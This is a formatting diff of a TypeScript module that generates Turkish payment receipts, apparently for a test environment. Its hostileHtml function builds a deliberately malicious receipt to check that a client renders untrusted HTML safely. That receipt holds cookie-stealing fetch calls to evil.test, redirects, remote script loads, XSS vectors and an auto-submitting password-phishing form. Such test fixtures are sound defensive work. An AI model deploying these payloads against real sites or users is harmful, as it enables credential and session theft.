@@ -12,7 +12,8 @@ import { pdfOf } from './pdf.ts';
 
 type Receipt = { content_type: string; data: string };
 
-const escapeHtml = (value: string): string => value.replace(/[&<>"']/g, (letter) => `&#${letter.charCodeAt(0)};`);
+const escapeHtml = (value: string): string =>
+  value.replace(/[&<>"']/g, (letter) => `&#${letter.charCodeAt(0)};`);
 
 /** 12340n -> "123,40" with Turkish grouping. */
 export function turkishAmount(value: bigint): string {
@@ -26,7 +27,14 @@ function localTime(ms: number): string {
   return `${date.split('-').reverse().join('.')} ${time.slice(0, 8)}`;
 }
 
-const TITLES: Record<string, string> = { payout: 'Para Gönderme Dekontu', return: 'İade Dekontu', topup: 'Para Yükleme Dekontu', virement: 'Virman Dekontu', to_person: 'Cüzdana Gönderme Dekontu', to_business: 'Cüzdana Gönderme Dekontu' };
+const TITLES: Record<string, string> = {
+  payout: 'Para Gönderme Dekontu',
+  return: 'İade Dekontu',
+  topup: 'Para Yükleme Dekontu',
+  virement: 'Virman Dekontu',
+  to_person: 'Cüzdana Gönderme Dekontu',
+  to_business: 'Cüzdana Gönderme Dekontu',
+};
 /** Money of these kinds came from somebody else. */
 const INCOMING = ['topup', 'return', 'return_unlisted', 'opening'];
 
@@ -52,28 +60,39 @@ function lines(row: Row): [string, string][] {
 
 function html(row: Row): string {
   const title = TITLES[text(row.kind)] ?? 'Dekont';
-  const cells = lines(row).map(([name, value]) => `<tr><th>${escapeHtml(name)}</th><td>${escapeHtml(value)}</td></tr>`).join('');
-  return `<!DOCTYPE html><html lang="tr"><head><meta charset="utf-8"><title>${title}</title><style>body{font-family:Arial,sans-serif;margin:32px;color:#222}`
-    + `h1{font-size:18px}table{border-collapse:collapse}th{text-align:left;color:#666;font-weight:normal}th,td{padding:6px 16px 6px 0;border-bottom:1px solid #ddd}</style></head>`
-    + `<body><h1>${title}</h1><p>${escapeHtml(MERCHANT.name)}</p><table>${cells}</table><p>Bu belge deneme ortamında üretilmiştir; mali değeri yoktur.</p></body></html>`;
+  const cells = lines(row)
+    .map(([name, value]) => `<tr><th>${escapeHtml(name)}</th><td>${escapeHtml(value)}</td></tr>`)
+    .join('');
+  return (
+    `<!DOCTYPE html><html lang="tr"><head><meta charset="utf-8"><title>${title}</title><style>body{font-family:Arial,sans-serif;margin:32px;color:#222}` +
+    `h1{font-size:18px}table{border-collapse:collapse}th{text-align:left;color:#666;font-weight:normal}th,td{padding:6px 16px 6px 0;border-bottom:1px solid #ddd}</style></head>` +
+    `<body><h1>${title}</h1><p>${escapeHtml(MERCHANT.name)}</p><table>${cells}</table><p>Bu belge deneme ortamında üretilmiştir; mali değeri yoktur.</p></body></html>`
+  );
 }
 
 /** Everything a stranger could put into a receipt to reach the person who opens it. */
 function hostileHtml(row: Row): string {
   const amount = turkishAmount(minor(row.amount));
-  return `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><base href="https://evil.test/">`
-    + `<link rel="stylesheet" href="https://evil.test/style.css"><script>window.top.location='https://evil.test/top';fetch('https://evil.test/?c='+document.cookie)</script>`
-    + `<style>@import url(https://evil.test/import.css);body{background:url(https://evil.test/background.png)}</style></head>`
-    + `<body onload="parent.document.title='owned'"><h1>Dekont</h1><p>İşlem No ${text(row.id)} - Tutar ${amount} ${text(row.currency)}</p>`
-    + `<p>${text(row.description)}</p><img src="https://evil.test/pixel.png" onerror="alert(1)"><svg onload="alert(document.domain)"><script>alert(2)</script></svg>`
-    + `<form action="https://evil.test/steal" method="post"><input name="password" autofocus placeholder="Oturumunuz doldu, parolanızı girin"><button>Devam</button></form>`
-    + `<iframe src="javascript:alert(3)"></iframe><object data="https://evil.test/object"></object><a href="javascript:alert(4)">Dekontu indir</a>`
-    + `<script src="https://evil.test/remote.js"></script><script>document.forms[0].submit()</script></body></html>`;
+  return (
+    `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><base href="https://evil.test/">` +
+    `<link rel="stylesheet" href="https://evil.test/style.css"><script>window.top.location='https://evil.test/top';fetch('https://evil.test/?c='+document.cookie)</script>` +
+    `<style>@import url(https://evil.test/import.css);body{background:url(https://evil.test/background.png)}</style></head>` +
+    `<body onload="parent.document.title='owned'"><h1>Dekont</h1><p>İşlem No ${text(row.id)} - Tutar ${amount} ${text(row.currency)}</p>` +
+    `<p>${text(row.description)}</p><img src="https://evil.test/pixel.png" onerror="alert(1)"><svg onload="alert(document.domain)"><script>alert(2)</script></svg>` +
+    `<form action="https://evil.test/steal" method="post"><input name="password" autofocus placeholder="Oturumunuz doldu, parolanızı girin"><button>Devam</button></form>` +
+    `<iframe src="javascript:alert(3)"></iframe><object data="https://evil.test/object"></object><a href="javascript:alert(4)">Dekontu indir</a>` +
+    `<script src="https://evil.test/remote.js"></script><script>document.forms[0].submit()</script></body></html>`
+  );
 }
 
 export function receiptOf(world: World, row: Row): Receipt {
-  if (row.hostile === 1 && world.questions.magic_values) return { content_type: 'text/html', data: hostileHtml(row) };
+  if (row.hostile === 1 && world.questions.magic_values)
+    return { content_type: 'text/html', data: hostileHtml(row) };
   const even = Number(text(row.id).slice(-1)) % 2 === 0;
-  if (even) return { content_type: 'application/pdf', data: pdfOf(TITLES[text(row.kind)] ?? 'Dekont', lines(row)).toString('base64') };
+  if (even)
+    return {
+      content_type: 'application/pdf',
+      data: pdfOf(TITLES[text(row.kind)] ?? 'Dekont', lines(row)).toString('base64'),
+    };
   return { content_type: 'text/html', data: html(row) };
 }
